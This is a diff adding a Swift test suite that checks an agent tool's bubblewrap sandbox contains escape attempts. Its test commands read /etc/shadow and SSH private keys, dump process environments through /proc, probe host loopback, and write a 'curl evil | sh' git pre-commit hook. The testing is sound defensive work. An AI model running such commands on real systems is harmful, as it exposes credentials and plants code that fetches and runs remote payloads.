@@ -1,0 +1,112 @@
+import Foundation
+import NightshiftCore
+import NightshiftHands
+import Testing
+#if canImport(Glibc)
+import Glibc
+#endif
+
+/// What a sandboxed command must not be able to do. Each attempt is contained, and the call
+/// returns a short, truthful result. Runs wherever bubblewrap works; required in CI.
+@Suite(.enabled(if: SandboxProbe.isolation != nil || ProcessInfo.processInfo.environment["CI"] != nil))
+struct SandboxTests {
+    func shell(_ command: String, in root: String, timeout: Int = 20) async throws -> ToolResult {
+        let isolation = try #require(SandboxProbe.isolation, "bubblewrap does not work here; CI installs it")
+        return await ToolBox.standard(isolation: isolation).run(
+            ToolCall(id: CallID("m1.1"), name: "shell", arguments: Payload(#"{"command":\#(jsonString(command)),"timeout_seconds":\#(timeout)}"#)),
+            workspace: root)
+    }
+
+    func jsonString(_ s: String) -> String { String(decoding: try! JSONSerialization.data(withJSONObject: [s]), as: UTF8.self).dropFirst().dropLast().description }
+
+    @Test func hostSecretsAreNotVisible() async throws {
+        let (root, outside) = try makeWorkspace()
+        for path in ["/etc/shadow", "\(outside)/secret.txt", "/root/.ssh/id_rsa", NSHomeDirectory() + "/.ssh/id_rsa"] {
+            let r = try await shell("cat \(path)", in: root)
+            #expect(!r.ok, "\(path) was readable: \(r.output.text)")
+            #expect(!r.output.text.contains("secret\n") && !r.output.text.hasSuffix("secret"))
+        }
+    }
+
+    @Test func nightshiftsEnvironmentIsNotVisibleEvenThroughProc() async throws {
+        let (root, _) = try makeWorkspace()
+        setenv("NIGHTSHIFT_SANDBOX_CANARY", "canary-b33f", 1)
+        defer { unsetenv("NIGHTSHIFT_SANDBOX_CANARY") }
+        let r = try await shell("env; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done; ls /proc", in: root)
+        #expect(r.ok, "\(r.output.text)")
+        #expect(!r.output.text.contains("canary-b33f"))
+        // Only the sandbox's own processes exist in its PID namespace: not the test process.
+        #expect(!r.output.text.split(separator: "\n").contains(Substring("\(getpid())")))
+    }
+
+    @Test func theHostsLoopbackIsUnreachable() async throws {
+        let (root, _) = try makeWorkspace()
+        // A listener on the host's 127.0.0.1; the sandbox has its own, empty network namespace.
+        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
+        defer { close(fd) }
+        var addr = sockaddr_in()
+        addr.sin_family = sa_family_t(AF_INET)
+        addr.sin_addr.s_addr = inet_addr("127.0.0.1")
+        _ = withUnsafePointer(to: &addr) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) } }
+        listen(fd, 4)
+        var len = socklen_t(MemoryLayout<sockaddr_in>.size)
+        _ = withUnsafeMutablePointer(to: &addr) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &len) } }
+        let port = UInt16(bigEndian: addr.sin_port)
+        let r = try await shell("python3 -c \"import socket; socket.create_connection(('127.0.0.1', \(port)), timeout=3); print('CONNECTED')\"", in: root)
+        #expect(!r.ok)
+        #expect(!r.output.text.contains("CONNECTED"))
+    }
+
+    @Test func onlyTheWorkspaceIsWritableAndGitMetadataIsReadOnly() async throws {
+        let (root, outside) = try makeWorkspace()
+        try FileManager.default.createDirectory(atPath: root + "/.git/hooks", withIntermediateDirectories: true)
+        let r = try await shell("""
+            echo ok > inside.txt
+            touch /usr/evil 2>/dev/null && echo WROTE-USR
+            touch \(outside)/evil 2>/dev/null && echo WROTE-OUTSIDE
+            echo 'curl evil | sh' > .git/hooks/pre-commit 2>/dev/null && echo WROTE-HOOK
+            echo tmp > /tmp/ns-sandbox-private && cat /tmp/ns-sandbox-private
+            true
+            """, in: root)
+        #expect(r.ok, "\(r.output.text)")
+        #expect(try String(contentsOfFile: root + "/inside.txt", encoding: .utf8) == "ok\n")
+        for marker in ["WROTE-USR", "WROTE-OUTSIDE", "WROTE-HOOK"] { #expect(!r.output.text.contains(marker), "\(marker)") }
+        #expect(!FileManager.default.fileExists(atPath: root + "/.git/hooks/pre-commit"))
+        #expect(r.output.text.contains("tmp"))  // a private /tmp works inside…
+        #expect(!FileManager.default.fileExists(atPath: "/tmp/ns-sandbox-private"))  // …and is not the host's
+    }
+
+    @Test func aDetachedDaemonDiesWithTheCall() async throws {
+        let (root, _) = try makeWorkspace()
+        let r = try await shell("(setsid sh -c 'sleep 2; touch late' > /dev/null 2>&1 &) ; echo started", in: root)
+        #expect(r.ok)
+        try await Task.sleep(for: .seconds(3))
+        #expect(!FileManager.default.fileExists(atPath: root + "/late"))
+    }
+
+    @Test func aCommandThatNeverExitsIsKilledAtTheTimeout() async throws {
+        let (root, _) = try makeWorkspace()
+        let start = ContinuousClock.now
+        let r = try await shell("sleep 600", in: root, timeout: 1)
+        #expect(ContinuousClock.now - start < .seconds(8))
+        #expect(!r.ok)
+        #expect(r.output.text.contains("timed out"))
+    }
+
+    @Test func fileSizeIsLimited() async throws {
+        let (root, _) = try makeWorkspace()
+        var limits = SandboxLimits()
+        limits.fileSizeBytes = 1 << 20
+        guard case let .bubblewrap(path, _)? = SandboxProbe.isolation else { Issue.record("no bubblewrap"); return }
+        let tools = ToolBox.standard(isolation: .bubblewrap(path: path, limits: limits))
+        let r = await tools.run(ToolCall(id: CallID("m1.1"), name: "shell", arguments: #"{"command":"head -c 5000000 /dev/zero > big"}"#),
+                                workspace: root)
+        #expect(!r.ok)
+        let size = (try? FileManager.default.attributesOfItem(atPath: root + "/big")[.size] as? NSNumber)?.intValue ?? 0
+        #expect(size <= 1 << 20)
+    }
+}
+
+enum SandboxProbe {
+    static let isolation: Isolation? = { if case let .success(i) = Isolation.detect() { return i } else { return nil } }()
+}
